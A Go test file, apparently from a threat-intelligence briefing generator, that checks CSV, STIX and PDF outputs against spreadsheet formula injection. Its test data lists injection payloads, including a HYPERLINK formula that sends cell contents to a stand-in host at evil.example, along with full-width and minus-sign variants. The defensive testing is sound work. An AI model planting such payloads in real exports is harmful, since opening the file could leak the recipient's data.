package build

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"briefing/briefing/indicator"
	"briefing/internal/testkit"
	"briefing/internal/testkit/stixcheck"
)

// formulaIOCs are indicators whose values, or notes, a spreadsheet would
// run as formulas: file names and e-mail addresses are the types that
// take such values.
var formulaIOCs = [][3]string{
	{"file", `=HYPERLINK("https://evil.example/?"&A1,"invoice")`, "=1+1"},
	{"file", "+cmd.exe", "-> the C2"},
	{"file", "-rf.sh", "@SUM(A1:A2)"},
	{"file", "@invoice.pdf.exe", "a note"},
	{"file", "'quoted'.txt", "'quoted'"},
	{"email", "=x@evil.example", ""},
	{"email", "-x@evil.example", ""},
	// A note that starts with a line break or a space: the CSV writes
	// its line end as CR LF, and a spreadsheet may skip white space
	// before it looks for a formula.
	{"file", "a.exe", "\n=1+1"},
	{"file", "b.exe", "\r\n@SUM(A1)"},
	{"file", "c.exe", " =1+1"},
	{"file", "d.exe", "\u3000-1"},
	// The signs' other forms: full-width, as Japanese input types them
	// (Excel then takes ＝ for =), and the minus sign (Gnumeric reads
	// －1 and −1 as the number −1). The small, superscript and subscript
	// forms, which the embedded fonts cannot draw, are tried in
	// briefing/indicator.
	{"file", "＝HYPERLINK(\"https://evil.example\")", "＋1"},
	{"file", "－1", "＠SUM(A1)"},
	{"email", "＝x@evil.example", "－1"},
	{"file", "−1", "＇quoted"},
}

// formulaSign reports whether a field starts with a character that a
// spreadsheet may run as a formula, or read as a sign, or skip before one.
func formulaSign(field string) bool {
	r, _ := utf8.DecodeRuneInString(field)
	return field != "" && (strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−", r) || unicode.IsSpace(r))
}

// TestIndicatorFormulas renders an incident with such indicators and
// reads its attachments back with qpdf, as a recipient does: the CSV
// starts no field with a formula's character (each such field has an
// apostrophe before it, which gives the value back when dropped), a
// spreadsheet shows each value as written and runs none, the
// STIX bundle holds every value as written, and the PDF prints the file
// names as written.
func TestIndicatorFormulas(t *testing.T) {
	for _, tool := range []string{"pdftotext", "qpdf", "ssconvert"} {
		testkit.Tool(t, tool)
	}
	dir := t.TempDir()
	var src strings.Builder
	src.WriteString("format = 2\nid = \"formulas\"\ndate = 2024-03-08\ntitle = \"Formulas\"\nsummary = \"s\"\ntlp = \"GREEN\"\nlanguages = [\"en\"]\n")
	for _, c := range formulaIOCs {
		src.WriteString("\n[[indicators]]\ntype = \"" + c[0] + "\"\nvalue = " + strconv.Quote(c[1]) + "\n")
		if c[2] != "" {
			src.WriteString("note = " + strconv.Quote(c[2]) + "\n")
		}
	}
	path := filepath.Join(dir, "formulas.toml")
	if err := os.WriteFile(path, []byte(src.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	r := File(context.Background(), path, &Options{Dir: dir, Theme: testTheme(t)})
	if len(r.Diagnostics) > 0 || len(r.Outputs) != 1 {
		t.Fatalf("%v, %d PDFs", r.Diagnostics, len(r.Outputs))
	}
	pdf := r.Outputs[0].Path

	raw := testkit.Run(t, "qpdf", "--show-attachment=indicators.csv", pdf)
	recs, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
	if err != nil || len(recs) != len(formulaIOCs)+1 {
		t.Fatalf("CSV (%v):\n%s", err, raw)
	}
	for i, c := range formulaIOCs {
		rec := recs[i+1]
		for j, want := range []string{c[1], c[2]} {
			want = strings.ReplaceAll(want, "\r\n", "\n") // a CSV reader's line ends
			field := rec[j+1]
			if formulaSign(field) {
				t.Errorf("CSV record %d: %q would be run as a formula", i+1, field)
			}
			if (formulaSign(want) || strings.HasPrefix(want, "'") || strings.HasPrefix(want, "＇")) && field != "'"+want {
				t.Errorf("CSV record %d: %q, want %q with an apostrophe before it", i+1, field, want)
			}
			if indicator.CSVValue(field) != want {
				t.Errorf("CSV record %d: %q does not give back %q", i+1, field, want)
			}
		}
	}

	// A spreadsheet (Gnumeric, as its ssconvert opens a CSV) shows every
	// value and note as written, as text: the apostrophe is its prefix for
	// text. A field without it runs: the last line, =1+1, gives 2. (The
	// fields go one a line, since Gnumeric guesses the separator and
	// takes a CSV full of apostrophes for one separated by them; Excel and
	// LibreOffice separate a .csv file by commas.)
	var col strings.Builder
	w := csv.NewWriter(&col)
	var want []string
	for i, c := range formulaIOCs {
		for j, v := range []string{c[1], c[2]} {
			if v != "" {
				w.Write([]string{recs[i+1][j+1]})
				want = append(want, strings.ReplaceAll(v, "\r\n", "\n"))
			}
		}
	}
	w.Write([]string{"=1+1"})
	want = append(want, "2")
	w.Flush()
	in, out := filepath.Join(dir, "fields.csv"), filepath.Join(dir, "sheet.csv")
	if err := os.WriteFile(in, []byte(col.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	testkit.Run(t, "ssconvert", in, out)
	b, _ := os.ReadFile(out)
	sheet, err := csv.NewReader(strings.NewReader(string(b))).ReadAll()
	if err != nil || len(sheet) != len(want) {
		t.Fatalf("ssconvert (%v):\n%s", err, b)
	}
	for i, w := range want {
		if sheet[i][0] != w {
			t.Errorf("the spreadsheet shows %q, want %q", sheet[i][0], w)
		}
	}

	stix := testkit.Run(t, "qpdf", "--show-attachment=indicators.stix.json", pdf)
	for _, err := range stixcheck.Bundle(t, []byte(stix)) {
		t.Errorf("STIX 2.1 schemas: %v", err)
	}
	var bundle struct {
		Objects []struct{ Type, Name, Pattern, Description string } `json:"objects"`
	}
	if err := json.Unmarshal([]byte(stix), &bundle); err != nil || len(bundle.Objects) != len(formulaIOCs)+1 {
		t.Fatalf("STIX (%v): %s", err, stix)
	}
	for i, c := range formulaIOCs {
		o := bundle.Objects[i+1]
		if o.Name != c[1] || o.Pattern != indicator.Pattern(indicator.Type(c[0]), c[1]) || o.Description != strings.ReplaceAll(c[2], "\r\n", "\n") { // a text's line ends are LF
			t.Errorf("STIX indicator %d: %+v, want the value %q and note %q as written", i+1, o, c[1], c[2])
		}
	}

	text := strings.Join(strings.Fields(testkit.Run(t, "pdftotext", "-enc", "UTF-8", pdf, "-")), "")
	for _, c := range formulaIOCs {
		if c[0] == "file" && !strings.Contains(text, strings.Join(strings.Fields(c[1]), "")) {
			t.Errorf("the PDF does not print %q as written", c[1])
		}
	}
}
